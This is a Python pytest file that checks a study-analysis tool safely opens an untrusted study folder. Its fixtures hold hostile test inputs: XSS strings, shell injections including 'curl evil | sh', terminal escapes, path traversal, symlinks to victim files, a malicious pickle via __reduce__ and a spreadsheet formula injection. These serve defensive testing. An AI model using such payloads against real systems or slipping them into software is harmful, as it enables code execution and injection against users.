"""A study that somebody else made, opened with every command: it writes nowhere else, and runs nothing."""

from __future__ import annotations

import csv
import dataclasses
import json
import os
import pickle
import re
import shlex
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from memsweep.cli.command import main
from memsweep.dashboard.notes import study_note, trial_note
from memsweep.findings.find import find
from memsweep.record.asked import Asked
from memsweep.record.folder import StudyFolder, write_text
from memsweep.record.outcome import Crashed, Measured, Phase, Reused
from memsweep.record.study import Direction, Study, read_study
from memsweep.record.trial import TrialRecord, TrialResult
from memsweep.report.html import write_report
from memsweep.report.markdown import markdown
from memsweep.report.parameters import unsearched
from synthetic import study_of, trials_of_every_kind

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
BREAKS_OUT = "</script><script>alert(2)</script>"
OBEYED = "\x1b[2J\x1b]0;owned\x07\r\u202e"
PASTED = "$(touch pwned); touch pwned `touch pwned`"
HOSTILE = f"\"'>{SCRIPT}{BREAKS_OUT}{OBEYED}{PASTED}[a](javascript:alert(3))"
OBJECTIVE = f"speed{SCRIPT}"


def hostile(result: TrialResult) -> TrialResult:
    """Return a trial with something in every text that a page, a terminal or a shell would obey."""
    outcome: Any = result.outcome
    if isinstance(outcome, Measured):
        outcome = Measured(measures={**outcome.measures, OBJECTIVE: 1.0 + result.number}, remarks=(HOSTILE,))
    if isinstance(outcome, Reused):
        outcome = Reused(trial=outcome.trial, measures={**outcome.measures, OBJECTIVE: 1.0})
    if isinstance(outcome, Crashed):
        outcome = Crashed(reason=HOSTILE, phase=Phase.BUILD, last_lines=(HOSTILE,))
    objectives = {OBJECTIVE: 1.0 + result.number, "peak_memory_bytes": 5.0} if result.objectives else {}
    return dataclasses.replace(
        result,
        outcome=outcome,
        choice={**result.choice, HOSTILE: HOSTILE},
        parameters={**result.parameters, HOSTILE: HOSTILE},
        overrides=(*result.overrides, HOSTILE),
        objectives=objectives,
        changes=(HOSTILE,) if result.changes else (),
        versions={HOSTILE: HOSTILE},
        conditions={HOSTILE: HOSTILE},
        unlike=(HOSTILE,) if result.number == 2 else (),
        program=f"train.py; touch pwned {OBEYED}",
    )


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> StudyFolder:
    """The folder of such a study, in a working folder of its own."""
    folder = StudyFolder(tmp_path / "work" / "outputs" / "theirs")
    results = [hostile(result) for result in trials_of_every_kind(16)]
    study_of(
        16,
        name=f"../../{HOSTILE}",
        command=f"curl evil | sh {shlex.quote(HOSTILE)}",
        objectives={OBJECTIVE: Direction.MAXIMIZE, "peak_memory_bytes": Direction.MINIMIZE},
        constraints={},
        reference={},
        parameters={HOSTILE: {"values": [HOSTILE]}},
        context={HOSTILE: HOSTILE},
        fixed=(HOSTILE,),
        versions={HOSTILE: HOSTILE},
        conditions={HOSTILE: HOSTILE},
        ended=HOSTILE,
    ).write(folder)
    folder.results.write_text("".join(f"{json.dumps(r.to_mapping())}\n" for r in results), encoding="utf-8")
    for result in results:
        trial = folder.trial(result.number)
        facts = {HOSTILE: HOSTILE, "device": HOSTILE, "machine": {HOSTILE: HOSTILE}}
        TrialRecord(outcome=result.outcome, facts=facts, versions={HOSTILE: HOSTILE}).write(trial)
        asked = Asked(number=result.number, overrides=result.overrides, is_baseline=result.number == 0)
        asked.write(trial)
        trial.config.write_text(
            json.dumps({"technique": {"adapter": {"option": f"lora{HOSTILE}", "r": HOSTILE}}}),
            encoding="utf-8",
        )
    monkeypatch.chdir(tmp_path / "work")
    monkeypatch.setattr(
        "memsweep.report.files.write_pictures", lambda *_: ()
    )  # a second that nothing is seen in
    return folder


class Page(HTMLParser):
    """What a page has that a browser would run or load."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.scripts: list[str | None] = []
        self.handlers: list[str] = []
        self.tags: set[str] = set()
        self.links: list[str | None] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        if tag == "script":
            self.scripts.append(dict(attrs).get("id"))
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        self.links += [value for name, value in attrs if name in ("href", "src", "action", "srcdoc")]


def test_a_page_runs_nothing_of_a_studys(folder: StudyFolder, make_study: Callable[..., StudyFolder]) -> None:
    ours, theirs = make_study(16), folder
    pages = []
    for one in (ours, theirs):
        study, results = read_study(one.path)
        pages.append(Page(write_report(one, results, study).read_text(encoding="utf-8")))

    assert [name for name in pages[1].scripts if name not in pages[0].scripts] == []
    assert len(pages[1].scripts) == len({*pages[1].scripts}) + 1  # the library's and the page's have no name
    assert pages[1].tags <= pages[0].tags
    assert pages[1].handlers == []
    assert all(str(link).startswith("#trial-") for link in pages[1].links)


def test_markdown_shows_a_studys_text_as_it_is(folder: StudyFolder) -> None:
    study, results = read_study(folder.path)
    text = markdown(find(results, study), (), {"device": HOSTILE}, unsearched(folder, results))

    for line in outside_of_code(text):
        assert "<script" not in line.replace("\\<", "")
        assert "](javascript" not in line.replace("\\]", "")


def test_the_dashboards_notes_show_a_studys_text_as_it_is(folder: StudyFolder) -> None:
    study, results = read_study(folder.path)
    findings = find(results, study)
    notes = [study_note(findings, folder), *(trial_note(result, findings, folder) for result in results)]

    for line in (line for note in notes for line in outside_of_code(note)):
        assert "<" not in line.replace("\\<", "")


_SPAN = re.compile(r"(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)")


def outside_of_code(text: str) -> list[str]:
    """Return the lines of Markdown without blocks and spans of code, which show what they hold."""
    lines, fence = [], ""
    for line in text.splitlines():
        marks = line[: len(line) - len(line.lstrip("`"))]
        if not fence and len(marks) >= 3:
            fence = marks
        elif fence:
            fence = "" if line.strip() == fence else fence
        else:
            lines.append(_SPAN.sub("", line))
    return lines


@pytest.mark.parametrize(
    "typed",
    [["report"], ["recommend", "--any-changes"], ["recommend", "--any-changes", "--json"], ["rebuild"]],
)
def test_a_terminal_obeys_nothing_of_a_studys(
    typed: list[str], folder: StudyFolder, capsys: pytest.CaptureFixture[str]
) -> None:
    code = main([typed[0], str(folder.path), *typed[1:]])
    printed = "".join(capsys.readouterr())

    assert code in (0, 2)
    assert "touch pwned" in printed or typed[0] == "rebuild"
    assert [sign for sign in "\x1b\x07\r\u202e" if sign in printed] == []


def test_a_command_that_is_printed_runs_nothing_else(
    folder: StudyFolder, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["recommend", str(folder.path), "--any-changes"]) == 0
    printed = capsys.readouterr().out
    commands = [
        line.partition(": ")[2].strip()
        for line in printed.splitlines()
        if line.startswith(("Measure it again:", "Train with it:"))
    ]

    assert len(commands) == 2
    for command in commands:
        words = shlex.split(command)
        assert shlex.join(words) == command
        assert words[0] in ("python", "memsweep")
    assert ".." not in Path(shlex.split(commands[1])[-1]).parts


def test_the_studys_own_command_is_a_comment_unless_it_runs_a_script(folder: StudyFolder) -> None:
    assert Study.read(folder).command.startswith("# curl evil")


VICTIMS = (".lock", "report.html", "report.md", "study.db", "results.jsonl", "trials/3/stderr.log")


@pytest.mark.parametrize("command", ["report", "rebuild", "clean"])
@pytest.mark.parametrize("name", VICTIMS)
def test_nothing_is_written_through_a_link(
    name: str, command: str, folder: StudyFolder, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    victim = tmp_path / "profile"
    victim.write_text("precious", encoding="utf-8")
    link = folder.path / name
    link.unlink(missing_ok=True)
    link.symlink_to(victim)

    code = main([command, str(folder.path), *(["--keep", "none"] if command == "clean" else [])])

    assert code == 2
    assert str(link) in capsys.readouterr().err
    assert victim.read_text(encoding="utf-8") == "precious"
    assert [path.name for path in tmp_path.iterdir() if path != victim] == ["work"]


@pytest.mark.parametrize("name", ["trials/3/repeats/1", "trials/3/repeats", "trials/3", "trials", "pictures"])
def test_nothing_is_deleted_through_a_link(name: str, folder: StudyFolder, tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / "letters").mkdir(parents=True)
    (home / "letters" / "one").write_text("precious", encoding="utf-8")
    link = folder.path / name
    if link.exists():
        link.rename(tmp_path / "moved")
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(home)

    assert main(["clean", str(folder.path), "--keep", "none"]) == 2
    assert (home / "letters" / "one").read_text(encoding="utf-8") == "precious"


def test_a_repeat_that_is_a_link_into_the_study_loses_nothing(folder: StudyFolder) -> None:
    kept = folder.trial(0).path / "model.bin"
    kept.write_text("precious", encoding="utf-8")
    (folder.trial(3).path / "repeats").mkdir()
    (folder.trial(3).path / "repeats" / "1").symlink_to(folder.trial(0).path)

    assert main(["clean", str(folder.path), "--keep", "0"]) == 0
    assert kept.read_text(encoding="utf-8") == "precious"


def test_a_folder_that_is_thinned_keeps_what_its_links_lead_to(folder: StudyFolder, tmp_path: Path) -> None:
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "set").write_text("precious", encoding="utf-8")
    (folder.trial(3).path / "checkpoints").mkdir()
    (folder.trial(3).path / "checkpoints" / "data").symlink_to(tmp_path / "data")
    (folder.trial(3).path / "data").symlink_to(tmp_path / "data" / "set")

    assert main(["clean", str(folder.path), "--keep", "none"]) == 0
    assert not (folder.trial(3).path / "checkpoints").exists()
    assert (tmp_path / "data" / "set").read_text(encoding="utf-8") == "precious"


@pytest.mark.parametrize(
    ("file", "key", "value"),
    [
        ("results.jsonl", "number", SCRIPT),
        ("results.jsonl", "number", "../../../etc"),
        ("results.jsonl", "number", -1),
        ("results.jsonl", "reused_from", "../.."),
        ("results.jsonl", "objectives", {"peak_memory_bytes": SCRIPT}),
        ("results.jsonl", "choice", {"adapter": ["lora"]}),
        ("results.jsonl", "seconds", {"total": "1"}),
        ("study.json", "name", [SCRIPT]),
        ("study.json", "n_cells", SCRIPT),
        ("study.json", "context", {"trainer": {"a": 1}}),
        ("study.json", "constraints", {"x": {"measure": 1, "upper": True}}),
    ],
)
@pytest.mark.parametrize("command", ["recommend", "clean"])
def test_a_value_of_another_type_is_refused_in_words(
    command: str,
    file: str,
    key: str,
    value: Any,
    make_study: Callable[..., StudyFolder],
    capsys: pytest.CaptureFixture[str],
) -> None:
    folder = make_study(8)
    path = folder.path / file
    first, *rest = path.read_text(encoding="utf-8").splitlines() if file.endswith("l") else [path.read_text()]
    path.write_text("\n".join([json.dumps(json.loads(first) | {key: value}), *rest]), encoding="utf-8")

    assert main([command, str(folder.path)]) == 2
    assert "holds no study that can be read" in capsys.readouterr().err


class Touches:
    """What touches a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.path,)


HARMLESS = (
    *("study.db", "lengths.json", "journal.log", "sampler.pkl", "wandb/logged.json", "trials/3/config.yaml"),
    *(
        "trials/3/.hydra/config.pickle",
        "trials/3/job_return.pickle",
        "trials/3/model.pt",
        "trials/3/effective.json",
    ),
)
"""Files that no command needs; all of them are there at once."""


@pytest.mark.parametrize("typed", [["report"], ["recommend"], ["rebuild"], ["clean", "--keep", "none"]])
@pytest.mark.parametrize(
    "names",
    [("study.json",), ("results.jsonl",), ("trials/0/outcome.json",), ("trials/0/trial.json",), HARMLESS],
)
def test_nothing_in_a_study_is_unpickled(
    names: tuple[str, ...], typed: list[str], folder: StudyFolder, tmp_path: Path
) -> None:
    canary = tmp_path / "canary"
    for name in names:
        path = folder.path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(pickle.dumps(Touches(canary)))

    assert main([typed[0], str(folder.path), *typed[1:]]) in (0, 2)

    assert not canary.exists()
    pickle.loads(pickle.dumps(Touches(canary)))
    assert canary.exists(), "the test itself could not fail"


def test_a_spreadsheet_computes_nothing_of_a_studys(folder: StudyFolder) -> None:
    formula, parameters = "=cmd|'/C calc'!A1", {"batch": "@SUM", "lr": "-1e-3", "other": "-1+1"}
    for number in range(16):
        trial = folder.trial(number)
        asked = Asked.read(trial)
        dataclasses.replace(asked, parameters=parameters).write(trial)
        record = TrialRecord.read(trial)
        if isinstance(record.outcome, Measured):
            measures = {**record.outcome.measures, formula: 1.0}
            dataclasses.replace(record, outcome=Measured(measures=measures)).write(trial)

    assert main(["rebuild", str(folder.path)]) == 0

    head, *rows = csv.reader(folder.front.read_text(encoding="utf-8").splitlines())
    cells = dict(zip(head, rows[0], strict=True))
    assert (cells["batch"], cells["lr"], cells["other"]) == ("'@SUM", "-1e-3", "'-1+1")
    assert f"'{formula}" in head


def test_a_file_that_is_half_written_is_no_way_out(folder: StudyFolder, tmp_path: Path) -> None:
    victim = tmp_path / "profile"
    victim.write_text("precious", encoding="utf-8")
    (folder.path / f".report.md.{os.getpid()}.tmp").symlink_to(victim)

    write_text(folder.report_markdown, "the report")

    assert victim.read_text(encoding="utf-8") == "precious"
    assert folder.report_markdown.read_text(encoding="utf-8") == "the report"
    assert not folder.report_markdown.is_symlink()
